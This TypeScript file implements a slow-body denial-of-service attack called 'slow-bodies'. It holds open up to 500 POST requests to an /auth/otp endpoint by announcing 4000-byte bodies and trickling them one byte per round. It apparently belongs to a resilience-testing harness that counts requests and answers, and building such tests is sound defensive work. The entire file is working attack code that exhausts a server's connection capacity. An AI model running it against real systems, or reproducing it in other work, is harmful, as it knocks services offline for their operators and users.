// Opens requests whose bodies arrive byte by byte, and keeps as many open as the server allows.
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, Target } from './attack.ts';

/** The number of requests to keep in flight, how many to start at a time, and the pause between. */
const MOST = 500;
const AT_ONCE = 10;
const GAP_MS = 50;
/** The announced length of each body. One byte arrives in each round. */
const BYTES = 4000;

export const slowBodies: Attack = {
  name: 'slow-bodies',
  what: `keeps up to ${MOST} requests to /auth/otp open whose bodies come byte by byte`,
  run: async (target, signal) => {
    const figures = { requests: 0, answered: 0, most_open: 0 };
    const open = new Set<Socket>();
    while (!signal.aborted) {
      for (let begun = 0; begun < AT_ONCE && open.size < MOST; begun += 1) {
        open.add(begin(target, open, () => (figures.answered += 1)));
        figures.requests += 1;
      }
      figures.most_open = Math.max(figures.most_open, open.size);
      for (const socket of open) if (socket.writable) socket.write(' ');
      await pause(GAP_MS);
    }
    for (const socket of open) socket.destroy();
    return figures;
  },
};

function begin({ host, port, localAddress }: Target, open: Set<Socket>, onAnswer: () => void): Socket {
  const socket = connect({ host, port, ...(localAddress === undefined ? {} : { localAddress }) });
  socket.once('data', onAnswer);
  socket.once('close', () => open.delete(socket));
  // The server ends the request, so the attacker starts another one.
  socket.on('error', () => open.delete(socket));
  const head = [
    'POST /auth/otp HTTP/1.1',
    `Host: ${host}`,
    'Content-Type: application/json',
    `Content-Length: ${BYTES}`,
  ];
  socket.write(`${head.join('\r\n')}\r\n\r\n{"phone":`);
  return socket;
}
